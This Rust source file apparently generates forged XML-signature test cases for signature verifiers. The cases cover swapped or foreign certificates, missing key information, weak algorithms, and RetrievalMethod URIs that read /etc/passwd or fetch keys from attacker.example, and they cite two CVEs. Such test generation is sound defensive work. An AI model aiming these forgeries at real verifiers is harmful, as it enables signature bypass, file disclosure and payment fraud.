//! Attacks on who has signed: keys and certificates taken from the message, weak algorithms.

use super::forge::{Attack, DIGEST, Forge, between, with};

const SIGNING: &str = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256";

impl Forge {
    pub fn keys(&self, all: &mut Vec<Attack>) {
        self.key_info(all);
        self.algorithms(all);
    }

    fn key_info(&self, all: &mut Vec<Attack>) {
        let class = "key taken from the message (CVE-2024-32962)";
        let (signed, foreign) = (&self.whole, &self.foreign);
        let info = between(signed, "<ds:KeyInfo>", "</ds:KeyInfo>");
        let own = between(signed, "<ds:X509Certificate>", "</ds:X509Certificate>");
        let theirs = &self.foreign_certificate;
        let value = "<ds:KeyValue><dsig11:ECKeyValue xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\"><dsig11:NamedCurve URI=\"urn:oid:1.2.840.10045.3.1.7\"/><dsig11:PublicKey>AAAA</dsig11:PublicKey></dsig11:ECKeyValue></ds:KeyValue>";
        let der = "<dsig11:DEREncodedKeyValue xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\">AAAA</dsig11:DEREncodedKeyValue>";
        let only = |inner: &str| with(signed, info, &format!("<ds:KeyInfo>{inner}</ds:KeyInfo>"));
        let beside = |inner: &str| with(signed, "<ds:KeyInfo>", &format!("<ds:KeyInfo>{inner}"));
        let named = "<ds:X509Data><ds:X509SubjectName>CN=Signer</ds:X509SubjectName></ds:X509Data>";
        let serial = "<ds:X509IssuerSerial><ds:X509IssuerName>CN=Somebody</ds:X509IssuerName><ds:X509SerialNumber>1</ds:X509SerialNumber></ds:X509IssuerSerial>";
        for (name, code, octets) in [
            ("own-authority", "AW-0132", foreign.clone()),
            (
                "own-authority-and-victims-certificate",
                "AW-0132",
                with(foreign, theirs, &format!("{theirs}{own}")),
            ),
            ("victims-certificate-before-own", "AW-0132", with(foreign, theirs, &format!("{own}{theirs}"))),
            ("victims-certificate-alone", "AW-0122", with(foreign, theirs, own)),
            ("own-certificate-for-victims-signature", "AW-0122", with(signed, own, theirs)),
            ("no-key-info", "AW-0133", with(signed, info, "")),
            ("key-info-empty", "AW-0133", only("")),
            ("key-value-alone", "AW-0133", only(value)),
            ("der-key-alone", "AW-0133", only(der)),
            ("key-name-alone", "AW-0133", only("<ds:KeyName>signer</ds:KeyName>")),
            ("subject-alone", "AW-0133", only(named)),
            ("issuer-serial-alone", "AW-0133", only(&format!("<ds:X509Data>{serial}</ds:X509Data>"))),
            (
                "issuer-serial-of-another",
                "AW-0122",
                with(signed, "<ds:X509Data>", &format!("<ds:X509Data>{serial}")),
            ),
            ("subject-of-another", "AW-0122", beside(&named.replace("Signer", "Somebody"))),
            (
                "key-id-of-another",
                "AW-0122",
                with(signed, "<ds:X509Data>", "<ds:X509Data><ds:X509SKI>AAAA</ds:X509SKI>"),
            ),
            (
                "key-value-with-foreign-signature",
                "AW-0132",
                with(foreign, "<ds:KeyInfo>", &format!("<ds:KeyInfo>{value}")),
            ),
            ("key-info-twice", "AW-0122", with(signed, info, &info.repeat(2))),
            (
                "certificate-with-comment",
                "AW-0122",
                with(signed, "<ds:X509Certificate>", "<ds:X509Certificate><!--x-->"),
            ),
            (
                "certificate-truncated",
                "AW-0122",
                with(signed, own, "<ds:X509Certificate>MIIB</ds:X509Certificate>"),
            ),
        ] {
            all.push(Attack { name: name.to_owned(), class, code, octets: octets.into_bytes() });
        }
        let class = "RetrievalMethod and KeyInfoReference (CVE-2021-40690)";
        for (name, uri) in
            [("local", "#a"), ("file", "file:///etc/passwd"), ("http", "http://attacker.example/key")]
        {
            for (kind, element) in [
                ("retrieval", format!("<ds:RetrievalMethod URI=\"{uri}\"/>")),
                (
                    "key-info-reference",
                    format!(
                        "<dsig11:KeyInfoReference xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\" URI=\"{uri}\"/>"
                    ),
                ),
            ] {
                let octets = beside(&element).into_bytes();
                all.push(Attack { name: format!("{kind}-{name}"), class, code: "AW-0121", octets });
            }
        }
        let looped = beside(
            "<ds:RetrievalMethod URI=\"\" Type=\"http://www.w3.org/2000/09/xmldsig#X509Data\"><ds:Transforms><ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"/></ds:Transforms></ds:RetrievalMethod>",
        );
        all.push(Attack {
            name: "retrieval-with-transforms".to_owned(),
            class,
            code: "AW-0121",
            octets: looped.into_bytes(),
        });
    }

    fn algorithms(&self, all: &mut Vec<Attack>) {
        let class = "weak and confused algorithms";
        let changed = with(&self.whole, "Anmeldung eines Hundes", "Auszahlung an mich");
        let method = format!("<ds:SignatureMethod Algorithm=\"{SIGNING}\"/>");
        for (name, uri) in [
            ("hmac-sha1", "http://www.w3.org/2000/09/xmldsig#hmac-sha1"),
            ("hmac-sha256", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
            ("rsa-sha1", "http://www.w3.org/2000/09/xmldsig#rsa-sha1"),
            ("rsa-md5", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
            ("dsa-sha1", "http://www.w3.org/2000/09/xmldsig#dsa-sha1"),
            ("ecdsa-sha1", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"),
            ("ed448", "http://www.w3.org/2021/04/xmldsig-more#eddsa-ed448"),
            ("none", ""),
            ("unknown", "urn:attacker"),
        ] {
            let octets = with(&changed, &method, &method.replace(SIGNING, uri)).into_bytes();
            all.push(Attack { name: format!("algorithm-{name}"), class, code: "AW-0121", octets });
        }
        let length =
            method.replace("/>", "><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>");
        for (name, code, from, to) in [
            ("hmac-output-length", "AW-0121", method.as_str(), length.as_str()),
            ("rsa-for-a-curve", "AW-0122", SIGNING, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"),
            (
                "ed25519-for-a-curve",
                "AW-0122",
                SIGNING,
                "http://www.w3.org/2021/04/xmldsig-more#eddsa-ed25519",
            ),
            ("pss-for-a-curve", "AW-0122", SIGNING, "http://www.w3.org/2007/05/xmldsig-more#rsa-pss"),
            ("digest-sha1", "AW-0121", DIGEST, "http://www.w3.org/2000/09/xmldsig#sha1"),
            ("digest-md5", "AW-0121", DIGEST, "http://www.w3.org/2001/04/xmldsig-more#md5"),
            ("digest-none", "AW-0121", DIGEST, ""),
        ] {
            let octets = with(&changed, from, to).into_bytes();
            all.push(Attack { name: format!("algorithm-{name}"), class, code, octets });
        }
        let pss = "<ds:SignatureMethod Algorithm=\"http://www.w3.org/2007/05/xmldsig-more#rsa-pss\"><pss:RSAPSSParams xmlns:pss=\"http://www.w3.org/2007/05/xmldsig-more#\"><pss:SaltLength>0</pss:SaltLength></pss:RSAPSSParams></ds:SignatureMethod>";
        let octets = with(&changed, &method, pss).into_bytes();
        all.push(Attack { name: "algorithm-pss-without-salt".to_owned(), class, code: "AW-0121", octets });
        let value = between(&changed, "<ds:SignatureValue>", "</ds:SignatureValue>");
        for (name, length) in [("zeros", 64), ("short", 8), ("long", 512)] {
            let forged = format!("<ds:SignatureValue>{}</ds:SignatureValue>", "AAAA".repeat(length / 3 + 1));
            let octets = with(&self.whole, value, &forged).into_bytes();
            all.push(Attack { name: format!("signature-value-{name}"), class, code: "AW-0122", octets });
        }
    }
}
